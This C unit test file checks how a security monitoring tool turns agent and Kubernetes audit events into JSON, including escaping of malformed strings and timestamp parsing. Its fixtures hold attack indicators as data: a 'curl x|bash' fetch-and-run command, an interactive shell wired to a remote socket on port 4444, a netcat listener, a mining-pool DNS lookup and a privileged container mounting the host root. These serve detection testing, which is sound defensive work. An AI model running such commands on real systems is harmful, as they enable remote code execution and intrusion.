/* Unit tests: event normalization and its JSON form (field names of
 * scenarios/FORMAT.md, valid JSON from hostile strings, RFC 3339 times). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "common/jsonw.h"
#include "correlator/event.h"

static const char *const common_keys[] = {
    "id",  "time",    "type",    "source",       "host",   "agent_id", "cluster", "cloud",
    "region", "node", "namespace", "pod", "pod_uid", "container_id", "labels", "owner", NULL};

/* Serializes ev and parses it back with jansson (which rejects invalid JSON
 * and invalid UTF-8), checking every common key is there. */
static json_t *roundtrip(const cw_event *ev)
{
    cw_buf b;
    cw_buf_init(&b, 0);
    assert_int_equal(cw_event_to_json(ev, &b), 0);
    assert_null(memchr(b.data, '\n', b.len)); /* one line */
    json_error_t jerr;
    json_t *j = json_loadb((const char *)b.data, b.len, 0, &jerr);
    if (!j) fail_msg("invalid JSON (%s): %.*s", jerr.text, (int)b.len, (const char *)b.data);
    cw_buf_free(&b);
    for (int i = 0; common_keys[i]; i++)
        if (!json_object_get(j, common_keys[i])) fail_msg("missing common key %s", common_keys[i]);
    return j;
}

static void assert_keys(json_t *j, const char *const *keys)
{
    for (int i = 0; keys[i]; i++)
        if (!json_object_get(j, keys[i])) fail_msg("missing key %s", keys[i]);
}

static const char *js(json_t *j, const char *k)
{
    return json_string_value(json_object_get(j, k));
}

static void process_exec_fields(void **state)
{
    (void)state;
    Chainwatch__V1__ProcessExec p = CHAINWATCH__V1__PROCESS_EXEC__INIT;
    char *argv[] = {"bash", "-i"}, *pargv[] = {"sh", "-c", "curl x|bash"};
    p.has_pid = p.has_ppid = p.has_uid = 1;
    p.pid = 7003;
    p.ppid = 7001;
    p.uid = 1000;
    p.exe = "/bin/bash";
    p.n_argv = 2;
    p.argv = argv;
    p.cwd = "/app";
    p.user = "app";
    p.container_id = "ce37";
    p.parent_exe = "/bin/sh";
    p.n_parent_argv = 3;
    p.parent_argv = pargv;
    p.has_tty = 1;
    p.tty = 0;
    p.has_stdin = p.has_stdout = 1;
    p.stdin = CHAINWATCH__V1__STDIO_KIND__STDIO_SOCKET;
    p.stdout = CHAINWATCH__V1__STDIO_KIND__STDIO_PIPE;
    p.stdio_peer = "198.51.100.40:4444";
    p.sha256 = "ab12";
    Chainwatch__V1__Event pb = CHAINWATCH__V1__EVENT__INIT;
    pb.has_time_ns = 1;
    pb.time_ns = 1714557600004000000LL;
    pb.payload_case = CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC;
    pb.process_exec = &p;

    cw_event ev;
    assert_int_equal(cw_event_from_agent(&ev, "agent-1", 42, 3, &pb, 1), 0);
    assert_int_equal(ev.type, CW_EV_PROCESS_EXEC);
    assert_string_equal(ev.id, "agent-1:42:3");
    assert_string_equal(ev.container_id, "ce37");
    assert_ptr_equal(ev.agent.process_exec, &p);

    json_t *j = roundtrip(&ev);
    static const char *const keys[] = {"pid",  "ppid",       "exe",         "argv",   "cwd",
                                       "uid",  "user",       "parent_exe",  "parent_argv",
                                       "tty",  "stdin",      "stdout",      "stdio_peer",
                                       "sha256", NULL};
    assert_keys(j, keys);
    assert_string_equal(js(j, "id"), "agent-1:42:3");
    assert_string_equal(js(j, "type"), "process_exec");
    assert_string_equal(js(j, "source"), "agent");
    assert_string_equal(js(j, "time"), "2024-05-01T10:00:00.004000000Z");
    assert_string_equal(js(j, "stdin"), "socket");
    assert_string_equal(js(j, "stdout"), "pipe");
    assert_string_equal(js(j, "container_id"), "ce37");
    assert_int_equal(json_integer_value(json_object_get(j, "pid")), 7003);
    assert_string_equal(json_string_value(json_array_get(json_object_get(j, "argv"), 1)), "-i");
    assert_true(json_is_false(json_object_get(j, "tty")));
    /* Unknown context is null, labels an empty object. */
    assert_true(json_is_null(json_object_get(j, "pod")));
    assert_true(json_is_null(json_object_get(j, "owner")));
    assert_int_equal(json_object_size(json_object_get(j, "labels")), 0);
    json_decref(j);

    /* Optional fields the agent left out are omitted; required ones stay. */
    Chainwatch__V1__ProcessExec q = CHAINWATCH__V1__PROCESS_EXEC__INIT;
    q.has_pid = 1;
    q.pid = 1;
    q.exe = "/x";
    pb.process_exec = &q;
    pb.has_time_ns = 0; /* missing time: the server's receive time stands in */
    assert_int_equal(cw_event_from_agent(&ev, "a", 1, 0, &pb, 1000000000LL), 0);
    j = roundtrip(&ev);
    assert_string_equal(js(j, "time"), "1970-01-01T00:00:01.000000000Z");
    assert_null(json_object_get(j, "cwd"));
    assert_null(json_object_get(j, "stdin"));
    assert_null(json_object_get(j, "parent_argv"));
    assert_true(json_is_null(json_object_get(j, "ppid")));
    assert_int_equal(json_array_size(json_object_get(j, "argv")), 0);
    assert_true(json_is_null(json_object_get(j, "container_id")));
    json_decref(j);
}

static Chainwatch__V1__Event wrap(Chainwatch__V1__Event__PayloadCase c, void *payload)
{
    Chainwatch__V1__Event pb = CHAINWATCH__V1__EVENT__INIT;
    pb.has_time_ns = 1;
    pb.time_ns = 1000;
    pb.payload_case = c;
    pb.process_exec = payload; /* union: any member */
    return pb;
}

static json_t *agent_json(Chainwatch__V1__Event__PayloadCase c, void *payload,
                          enum cw_event_type want, const char *type_name)
{
    Chainwatch__V1__Event pb = wrap(c, payload);
    cw_event ev;
    assert_int_equal(cw_event_from_agent(&ev, "ag", 7, 0, &pb, 0), 0);
    assert_int_equal(ev.type, want);
    json_t *j = roundtrip(&ev);
    assert_string_equal(js(j, "type"), type_name);
    return j;
}

static void other_agent_types(void **state)
{
    (void)state;
    json_t *j;

    Chainwatch__V1__ProcessExit pe = CHAINWATCH__V1__PROCESS_EXIT__INIT;
    pe.has_pid = pe.has_exit_code = 1;
    pe.pid = 5;
    pe.exit_code = -9;
    j = agent_json(CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXIT, &pe, CW_EV_PROCESS_EXIT,
                   "process_exit");
    assert_int_equal(json_integer_value(json_object_get(j, "exit_code")), -9);
    assert_keys(j, (const char *const[]){"pid", "exit_code", NULL});
    json_decref(j);

    Chainwatch__V1__NetConnect nc = CHAINWATCH__V1__NET_CONNECT__INIT;
    nc.has_pid = nc.has_src_port = nc.has_dst_port = 1;
    nc.pid = 1;
    nc.exe = "/usr/bin/curl";
    nc.proto = "tcp";
    nc.direction = "out";
    nc.src_ip = "10.0.0.1";
    nc.src_port = 40000;
    nc.dst_ip = "198.51.100.40";
    nc.dst_port = 80;
    j = agent_json(CHAINWATCH__V1__EVENT__PAYLOAD_NET_CONNECT, &nc, CW_EV_NET_CONNECT,
                   "net_connect");
    assert_keys(j, (const char *const[]){"pid", "exe", "proto", "direction", "src_ip", "src_port",
                                         "dst_ip", "dst_port", NULL});
    assert_int_equal(json_integer_value(json_object_get(j, "dst_port")), 80);
    json_decref(j);

    Chainwatch__V1__NetListen nl = CHAINWATCH__V1__NET_LISTEN__INIT;
    nl.has_pid = nl.has_port = 1;
    nl.exe = "/bin/nc";
    nl.proto = "tcp";
    nl.ip = "0.0.0.0";
    nl.port = 4444;
    j = agent_json(CHAINWATCH__V1__EVENT__PAYLOAD_NET_LISTEN, &nl, CW_EV_NET_LISTEN, "net_listen");
    assert_keys(j, (const char *const[]){"pid", "exe", "proto", "ip", "port", NULL});
    json_decref(j);

    Chainwatch__V1__DnsQuery dq = CHAINWATCH__V1__DNS_QUERY__INIT;
    char *answers[] = {"203.0.113.9"};
    dq.has_pid = 1;
    dq.exe = "/usr/bin/curl";
    dq.query = "pool.minexmr.com";
    dq.n_answers = 1;
    dq.answers = answers;
    j = agent_json(CHAINWATCH__V1__EVENT__PAYLOAD_DNS_QUERY, &dq, CW_EV_DNS_QUERY, "dns_query");
    assert_keys(j, (const char *const[]){"pid", "exe", "query", "answers", NULL});
    json_decref(j);

    Chainwatch__V1__FileOp fo = CHAINWATCH__V1__FILE_OP__INIT;
    fo.has_pid = 1;
    fo.exe = "/bin/mv";
    fo.op = "rename";
    fo.path = "/tmp/a";
    fo.new_path = "/usr/bin/a";
    fo.container_id = "c1";
    j = agent_json(CHAINWATCH__V1__EVENT__PAYLOAD_FILE_OP, &fo, CW_EV_FILE_OP, "file_op");
    assert_keys(j, (const char *const[]){"pid", "exe", "op", "path", "new_path", NULL});
    assert_string_equal(js(j, "container_id"), "c1");
    json_decref(j);

    Chainwatch__V1__Login lg = CHAINWATCH__V1__LOGIN__INIT;
    lg.user = "root";
    lg.src_ip = "203.0.113.5";
    lg.has_src_port = lg.has_success = 1;
    lg.src_port = 52000;
    lg.service = "sshd";
    lg.method = "publickey";
    lg.success = 1;
    lg.key_fingerprint = "SHA256:abc";
    j = agent_json(CHAINWATCH__V1__EVENT__PAYLOAD_LOGIN, &lg, CW_EV_LOGIN, "login");
    assert_keys(j, (const char *const[]){"user", "src_ip", "src_port", "service", "method",
                                         "success", "key_fingerprint", NULL});
    assert_true(json_is_true(json_object_get(j, "success")));
    json_decref(j);

    Chainwatch__V1__ContainerStart cs = CHAINWATCH__V1__CONTAINER_START__INIT;
    Chainwatch__V1__Mount m = CHAINWATCH__V1__MOUNT__INIT, *mounts[] = {&m};
    Chainwatch__V1__PortMapping pm = CHAINWATCH__V1__PORT_MAPPING__INIT, *ports[] = {&pm};
    char *caps[] = {"SYS_ADMIN"};
    m.host_path = "/";
    m.container_path = "/host";
    m.has_read_only = 1;
    pm.has_host_port = pm.has_container_port = 1;
    pm.host_port = 8080;
    pm.container_port = 80;
    pm.proto = "tcp";
    cs.container_id = "c2";
    cs.name = "web";
    cs.image = "nginx:1";
    cs.has_privileged = cs.has_host_pid = cs.has_host_network = cs.has_host_ipc = 1;
    cs.privileged = 1;
    cs.n_caps_add = 1;
    cs.caps_add = caps;
    cs.n_mounts = 1;
    cs.mounts = mounts;
    cs.n_ports = 1;
    cs.ports = ports;
    cs.restart = "always";
    cs.started_by = "docker-cli";
    cs.pod_ip = "10.244.0.5";
    cs.service_account = "default";
    j = agent_json(CHAINWATCH__V1__EVENT__PAYLOAD_CONTAINER_START, &cs, CW_EV_CONTAINER_START,
                   "container_start");
    assert_keys(j, (const char *const[]){"name", "image", "privileged", "host_pid",
                                         "host_network", "host_ipc", "caps_add", "mounts",
                                         "ports", "restart", "started_by", "pod_ip",
                                         "service_account", NULL});
    json_t *mj = json_array_get(json_object_get(j, "mounts"), 0);
    assert_string_equal(js(mj, "host_path"), "/");
    assert_string_equal(js(mj, "container_path"), "/host");
    assert_true(json_is_false(json_object_get(mj, "read_only")));
    json_t *pj = json_array_get(json_object_get(j, "ports"), 0);
    assert_int_equal(json_integer_value(json_object_get(pj, "host_port")), 8080);
    assert_string_equal(js(pj, "proto"), "tcp");
    assert_true(json_is_true(json_object_get(j, "privileged")));
    json_decref(j);

    Chainwatch__V1__ContainerStop st = CHAINWATCH__V1__CONTAINER_STOP__INIT;
    st.container_id = "c2";
    j = agent_json(CHAINWATCH__V1__EVENT__PAYLOAD_CONTAINER_STOP, &st, CW_EV_CONTAINER_STOP,
                   "container_stop");
    assert_string_equal(js(j, "container_id"), "c2");
    json_decref(j);

    /* A payload this server does not know (newer agent) is refused. */
    Chainwatch__V1__Event none = CHAINWATCH__V1__EVENT__INIT;
    cw_event ev;
    assert_int_equal(cw_event_from_agent(&ev, "ag", 1, 0, &none, 0), -1);
}

static void hostile_strings_stay_valid_json(void **state)
{
    (void)state;
    /* Invalid UTF-8 of every kind, control characters, quotes, backslashes. */
    static const struct {
        const char *in, *want;
    } cases[] = {
        {"\xff/bin/sh", "\xEF\xBF\xBD/bin/sh"},
        {"a\xc0\xaf" "b", "a\xEF\xBF\xBD\xEF\xBF\xBD" "b"},      /* overlong '/' */
        {"\xed\xa0\x80x", "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBDx"}, /* surrogate */
        {"\xf4\x90\x80\x80", "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"},
        {"euro \xe2\x82", "euro \xEF\xBF\xBD"},                   /* truncated */
        {"\xe2\x82\xac ok \xf0\x9f\x98\x80", "\xe2\x82\xac ok \xf0\x9f\x98\x80"}, /* valid */
        {"q\"b\\n\n\r\t\x01\x1f\x7f", "q\"b\\n\n\r\t\x01\x1f\x7f"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        Chainwatch__V1__ProcessExec p = CHAINWATCH__V1__PROCESS_EXEC__INIT;
        char *argv[] = {(char *)cases[i].in};
        p.exe = (char *)cases[i].in;
        p.n_argv = 1;
        p.argv = argv;
        p.container_id = (char *)cases[i].in;
        Chainwatch__V1__Event pb = wrap(CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC, &p);
        cw_event ev;
        /* The agent id (the record key) is hostile too. */
        assert_int_equal(cw_event_from_agent(&ev, cases[i].in, 1, 0, &pb, 0), 0);
        json_t *j = roundtrip(&ev);
        assert_string_equal(js(j, "exe"), cases[i].want);
        assert_string_equal(js(j, "container_id"), cases[i].want);
        assert_string_equal(json_string_value(json_array_get(json_object_get(j, "argv"), 0)),
                            cases[i].want);
        assert_string_equal(js(j, "agent_id"), cases[i].want);
        json_decref(j);
    }
    /* Out-of-range enum values from the wire do not index past a table. */
    Chainwatch__V1__ProcessExec p = CHAINWATCH__V1__PROCESS_EXEC__INIT;
    p.has_stdin = p.has_stdout = 1;
    p.stdin = (Chainwatch__V1__StdioKind)99;
    p.stdout = (Chainwatch__V1__StdioKind)-1;
    Chainwatch__V1__Event pb = wrap(CHAINWATCH__V1__EVENT__PAYLOAD_PROCESS_EXEC, &p);
    cw_event ev;
    assert_int_equal(cw_event_from_agent(&ev, "a", 1, 0, &pb, 0), 0);
    json_t *j = roundtrip(&ev);
    assert_null(json_object_get(j, "stdin"));
    assert_null(json_object_get(j, "stdout"));
    json_decref(j);
}

static void rfc3339_times(void **state)
{
    (void)state;
    char t[64];
    cw_json_format_time_ns(t, sizeof t, 0);
    assert_string_equal(t, "1970-01-01T00:00:00.000000000Z");
    cw_json_format_time_ns(t, sizeof t, -1);
    assert_string_equal(t, "1969-12-31T23:59:59.999999999Z");
    cw_json_format_time_ns(t, sizeof t, INT64_MAX);
    assert_string_equal(t, "2262-04-11T23:47:16.854775807Z");
    cw_json_format_time_ns(t, sizeof t, INT64_MIN);
    assert_string_equal(t, "1677-09-21T00:12:43.145224192Z");

    int64_t ns;
    assert_int_equal(cw_parse_rfc3339_ns("2018-10-25T14:09:12.581541Z", &ns), 0);
    cw_json_format_time_ns(t, sizeof t, ns);
    assert_string_equal(t, "2018-10-25T14:09:12.581541000Z");
    assert_int_equal(cw_parse_rfc3339_ns("2018-10-25T16:09:12+02:00", &ns), 0);
    cw_json_format_time_ns(t, sizeof t, ns);
    assert_string_equal(t, "2018-10-25T14:09:12.000000000Z");
    assert_int_equal(cw_parse_rfc3339_ns("2018-10-25T14:09:12.1234567891Z", &ns), 0);
    assert_int_equal(ns % 1000000000, 123456789);
    const char *bad[] = {"", "2018-10-25", "2018-10-25T14:09:12", "2018-13-25T14:09:12Z",
                         "2018-10-25T14:09:12.Z", "2018-10-25T14:09:12Zjunk",
                         "9999-01-01T00:00:00Z",
                         "2018-10-25T14:09:12+0200", "x018-10-25T14:09:12Z"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        assert_int_equal(cw_parse_rfc3339_ns(bad[i], &ns), -1);
    assert_int_equal(cw_parse_rfc3339_ns(NULL, &ns), -1);
}

static json_t *load_corpus(const char *name)
{
    const char *shared = getenv("CW_SHARED");
    char path[1024];
    snprintf(path, sizeof path, "%s/corpus/k8s-audit/%s", shared ? shared : "../shared", name);
    json_error_t jerr;
    json_t *j = json_load_file(path, 0, &jerr);
    if (!j) fail_msg("%s: %s", path, jerr.text);
    return j;
}

static void audit_event_fields(void **state)
{
    (void)state;
    json_t *audit = load_corpus("create-privileged-pod.json");
    cw_event ev;
    assert_int_equal(cw_event_from_audit(&ev, "prod-sh", audit, 5), 0);
    assert_int_equal(ev.type, CW_EV_K8S_AUDIT);
    assert_string_equal(ev.id, "prod-sh:a362d22b-db3c-4590-9505-23782f12925f:ResponseComplete");
    assert_string_equal(ev.k8s.verb, "create");
    assert_string_equal(ev.k8s.resource, "pods");
    assert_string_equal(ev.namespace, "default");
    assert_int_equal(ev.k8s.response_code, 201);

    json_t *j = roundtrip(&ev);
    assert_keys(j, (const char *const[]){"user", "groups", "verb", "resource", "subresource",
                                         "name", "source_ip", "user_agent", "decision",
                                         "response_code", "audit", NULL});
    assert_string_equal(js(j, "type"), "k8s_audit");
    assert_string_equal(js(j, "source"), "k8s_audit");
    assert_string_equal(js(j, "cluster"), "prod-sh");
    assert_string_equal(js(j, "user"), "system:serviceaccount:kube-system:replicaset-controller");
    assert_int_equal(json_array_size(json_object_get(j, "groups")), 3);
    assert_string_equal(js(j, "namespace"), "default");
    assert_string_equal(js(j, "source_ip"), "::1");
    assert_string_equal(js(j, "decision"), "allow");
    assert_int_equal(json_integer_value(json_object_get(j, "response_code")), 201);
    assert_true(json_is_null(json_object_get(j, "user_agent")));
    assert_true(json_is_null(json_object_get(j, "host")));
    assert_string_equal(js(j, "time"), "2018-10-25T14:09:12.581541000Z");
    assert_true(json_equal(json_object_get(j, "audit"), audit));
    json_decref(j);
    json_decref(audit);

    /* Exec into a pod: the pod comes from objectRef; the last source IP. */
    audit = load_corpus("exec-into-pod.json");
    json_object_set_new(audit, "sourceIPs", json_pack("[ss]", "6.6.6.6", "192.168.99.1"));
    assert_int_equal(cw_event_from_audit(&ev, "c", audit, 5), 0);
    assert_string_equal(ev.k8s.subresource, "exec");
    assert_string_equal(ev.k8s.source_ip, "192.168.99.1");
    assert_string_equal(ev.pod, ev.k8s.name);
    json_decref(audit);

    /* A hostile, oversized auditID still gives a bounded, valid id. */
    audit = json_object();
    char *huge = malloc(100000);
    memset(huge, 'A', 99999);
    huge[99999] = 0;
    json_object_set_new(audit, "auditID", json_string(huge));
    json_object_set_new(audit, "stage", json_string("\x01weird\"stage"));
    assert_int_equal(cw_event_from_audit(&ev, "c", audit, 77), 0);
    assert_true(strlen(ev.id) < 300);
    assert_int_equal(ev.time_ns, 77); /* no timestamps: the receive time */
    j = roundtrip(&ev);
    assert_true(json_is_null(json_object_get(j, "verb")));
    assert_true(json_is_null(json_object_get(j, "response_code")));
    json_decref(j);
    free(huge);
    json_decref(audit);

    json_t *arr = json_array();
    assert_int_equal(cw_event_from_audit(&ev, "c", arr, 0), -1);
    json_decref(arr);
}

static void json_writer_nesting_and_cap(void **state)
{
    (void)state;
    cw_buf b;
    cw_buf_init(&b, 0);
    cw_jsonw w;
    cw_jsonw_init(&w, &b);
    cw_jsonw_obj_open(&w);
    cw_jsonw_key(&w, "a");
    cw_jsonw_arr_open(&w);
    cw_jsonw_int(&w, -1);
    cw_jsonw_obj_open(&w);
    cw_jsonw_obj_close(&w);
    cw_jsonw_arr_open(&w);
    cw_jsonw_arr_close(&w);
    cw_jsonw_str(&w, NULL);
    cw_jsonw_arr_close(&w);
    cw_jsonw_key(&w, "b");
    cw_jsonw_bool(&w, 1);
    cw_jsonw_obj_close(&w);
    assert_int_equal(cw_jsonw_error(&w), 0);
    assert_int_equal(b.len, strlen("{\"a\":[-1,{},[],null],\"b\":true}"));
    assert_memory_equal(b.data, "{\"a\":[-1,{},[],null],\"b\":true}", b.len);
    cw_buf_free(&b);

    /* A capped buffer makes the writer fail, stickily, without overflow. */
    cw_buf_init(&b, 16);
    cw_jsonw_init(&w, &b);
    cw_jsonw_obj_open(&w);
    cw_jsonw_key(&w, "long key that does not fit");
    cw_jsonw_int(&w, 1);
    cw_jsonw_obj_close(&w);
    assert_int_equal(cw_jsonw_error(&w), -1);
    assert_true(b.len <= 16);
    cw_buf_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(process_exec_fields),
        cmocka_unit_test(other_agent_types),
        cmocka_unit_test(hostile_strings_stay_valid_json),
        cmocka_unit_test(rfc3339_times),
        cmocka_unit_test(audit_event_fields),
        cmocka_unit_test(json_writer_nesting_and_cap),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
